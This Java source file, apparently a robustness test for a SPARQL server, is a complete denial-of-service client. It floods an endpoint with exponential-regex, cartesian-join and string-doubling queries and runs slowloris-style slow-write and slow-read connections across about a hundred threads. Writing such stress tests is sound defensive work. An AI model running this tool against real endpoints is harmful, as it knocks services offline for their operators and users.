package dev.velella.tests.sink;

import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicLong;

/**
 * A program that attacks an endpoint over a hundred connections until it is killed. Its queries hold expressions that
 * never end, joins, growing texts and sorting; other connections begin requests and do not go on, or do not read their
 * answers. The program needs the JDK only.
 */
final class HostileClient {
    private static final int ASKING = 24;
    private static final int SLOW_WRITING = 60;
    private static final int SLOW_READING = 16;
    private static final String AS = "'" + "a".repeat(60) + "c'";
    private static final List<String> QUERIES = List.of(
            "SELECT * { ?s ?p ?o FILTER(REGEX(CONCAT(" + AS + ", STR(?o)), '(.*a){20}b')) }",
            "SELECT (REPLACE(" + AS + ", '(.*a){20}b', '') AS ?x) {}",
            "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l }",
            "SELECT * { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i } ORDER BY ?f ?i",
            "SELECT DISTINCT ?a ?d ?g { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }",
            "SELECT ?a ?d (GROUP_CONCAT(?c) AS ?x) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i } GROUP BY ?a ?d",
            "SELECT (GROUP_CONCAT(STR(?a)) AS ?x) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }",
            "SELECT * { ?a ?b ?c MINUS { ?a ?x ?y . ?d ?e ?f . ?g ?h ?i } }",
            "SELECT * { ?a ?b* ?c . ?d (!<urn:x>)* ?e }".replace("?b*", "(!<urn:x>)*"),
            doubling());

    private final URI endpoint;
    private final HttpClient http = HttpClient.newHttpClient();
    private final AtomicLong answers = new AtomicLong();

    private HostileClient(URI endpoint) {
        this.endpoint = endpoint;
    }

    /** Attacks the endpoint in the first argument; prints the number of answers to queries, of any kind, so far. */
    public static void main(String[] arguments) throws InterruptedException {
        HostileClient client = new HostileClient(URI.create(arguments[0]));
        client.start();
        do {
            System.out.println(client.answers.get());
            TimeUnit.MILLISECONDS.sleep(200);
        } while (!System.out.checkError());
        System.exit(1); // nobody reads this any more
    }

    private void start() {
        for (int i = 0; i < ASKING; i++) {
            int first = i;
            start(() -> ask(first));
        }
        for (int i = 0; i < SLOW_WRITING; i++) {
            start(this::writeSlowly);
        }
        for (int i = 0; i < SLOW_READING; i++) {
            start(this::readNothing);
        }
    }

    private static String doubling() {
        StringBuilder query = new StringBuilder("SELECT (STRLEN(?x40) AS ?n) { BIND('abcdefgh' AS ?x0)");
        for (int i = 0; i < 40; i++) {
            query.append(" BIND(CONCAT(?x" + i + ", ?x" + i + ") AS ?x" + (i + 1) + ")");
        }
        return query + " }";
    }

    private interface Attack {
        void run() throws IOException, InterruptedException;
    }

    private void start(Attack attack) {
        Thread thread = new Thread(() -> {
            while (true) {
                try {
                    attack.run();
                } catch (IOException e) {
                    Thread.onSpinWait(); // it was thrown out, and comes again
                } catch (InterruptedException e) {
                    return;
                }
            }
        });
        thread.start();
    }

    private void ask(int first) throws IOException, InterruptedException {
        for (int i = first; ; i++) {
            HttpRequest request = HttpRequest.newBuilder(endpoint.resolve("/sparql"))
                    .header("Content-Type", "application/sparql-query")
                    .timeout(Duration.ofSeconds(60))
                    .POST(BodyPublishers.ofString(QUERIES.get(i % QUERIES.size())))
                    .build();
            int status = http.send(request, BodyHandlers.discarding()).statusCode();
            answers.incrementAndGet();
            if (status == 503) {
                TimeUnit.MILLISECONDS.sleep(20); // all slots are taken, by its own kind
            }
        }
    }

    /** A byte now and then, of a head or a body. */
    private void writeSlowly() throws IOException, InterruptedException {
        try (Socket socket = new Socket(endpoint.getHost(), endpoint.getPort())) {
            byte[] request = ("POST /sparql HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/sparql-query\r\n"
                            + "Content-Length: 100000\r\n\r\n" + "x".repeat(1_000))
                    .getBytes(StandardCharsets.US_ASCII);
            OutputStream out = socket.getOutputStream();
            for (int i = 0; i < request.length; i++) {
                out.write(request, i, 1);
                TimeUnit.MILLISECONDS.sleep(100);
            }
        }
    }

    private void readNothing() throws IOException, InterruptedException {
        try (Socket socket = new Socket(endpoint.getHost(), endpoint.getPort())) {
            socket.getOutputStream()
                    .write(("GET /sparql?query=SELECT%20*%20%7B?a%20?b%20?c.?d%20?e%20?f%7D HTTP/1.1\r\n"
                                    + "Host: localhost\r\n\r\n")
                            .getBytes(StandardCharsets.US_ASCII));
            socket.getInputStream().read();
            for (int i = 0; i < 50; i++) {
                TimeUnit.MILLISECONDS.sleep(100);
            }
        }
    }
}
